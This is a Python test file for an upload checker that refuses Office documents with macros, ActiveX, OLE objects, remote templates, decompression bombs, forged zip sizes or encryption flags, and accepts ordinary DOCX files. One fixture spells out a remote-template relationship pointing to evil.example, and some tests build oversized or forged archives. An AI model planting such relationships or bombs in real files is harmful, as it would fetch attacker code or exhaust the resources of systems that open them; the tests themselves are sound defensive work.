"""Documents that run something, fetch something from outside or burst are refused; ordinary ones are not."""

import io
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pytest
from docx import Document

from hotline.rules.vocabulary import FileKind
from hotline.tickets.attachments import packages
from hotline.tickets.attachments.refusing import FileRefused
from tests.uploads import document

MACRO_TYPES = (
    b'<Types><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" TargetMode="External" Target="http://evil.example/a.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
LINK = (
    b'<Relationships><Relationship Id="r1" TargetMode="External" Target="http://www.hefei.gov.cn/" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
)


def code(body: bytes) -> str:
    with pytest.raises(FileRefused) as no:
        packages.opened(io.BytesIO(body))
    return no.value.refusal.code


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/vbaData.xml": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"xl/macrosheets/sheet1.xml": b"x"},
        {"[Content_Types].xml": MACRO_TYPES},
        {"word/_rels/settings.xml.rels": TEMPLATE},
    ],
    ids=lambda parts: next(iter(parts)),
)
def test_a_document_that_could_run_something_is_refused(parts: dict[str, bytes]) -> None:
    assert code(document(parts)) == "upload.active_content"


@pytest.mark.parametrize(
    "parts",
    [{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"}, {"word/_rels/document.xml.rels": LINK}],
    ids=["a sheet behind a chart", "a link"],
)
def test_what_ordinary_documents_hold_is_no_danger(parts: dict[str, bytes]) -> None:
    assert packages.opened(io.BytesIO(document(parts))) is FileKind.DOCX


def test_a_document_written_by_a_program_is_taken_in() -> None:
    out = io.BytesIO()
    real = Document()
    real.add_paragraph("巡查记录")
    real.save(out)
    assert packages.opened(out) is FileKind.DOCX


def test_a_package_that_bursts_is_refused() -> None:
    assert code(document({"word/media/a.xml": bytes(30_000_000)})) == "upload.unpacks_too_large"
    many = {f"word/{n}.xml": bytes(9_000_000) for n in range(23)}
    assert code(document(many)) == "upload.unpacks_too_large"
    assert code(document({f"word/{n}": b"" for n in range(5001)})) == "upload.unpacks_too_large"


def test_a_package_that_lies_about_its_size_is_refused() -> None:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", bytes(60_000_000))
    lying = out.getvalue().replace((60_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert code(lying) == "upload.broken"


def test_a_package_with_a_password_is_refused() -> None:
    out = io.BytesIO()
    with ZipFile(out, "w") as package:
        package.writestr(ZipInfo("word/document.xml"), b"<w/>")
    locked = bytearray(out.getvalue())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(sign) + place] |= 1
    assert code(bytes(locked)) == "upload.broken"
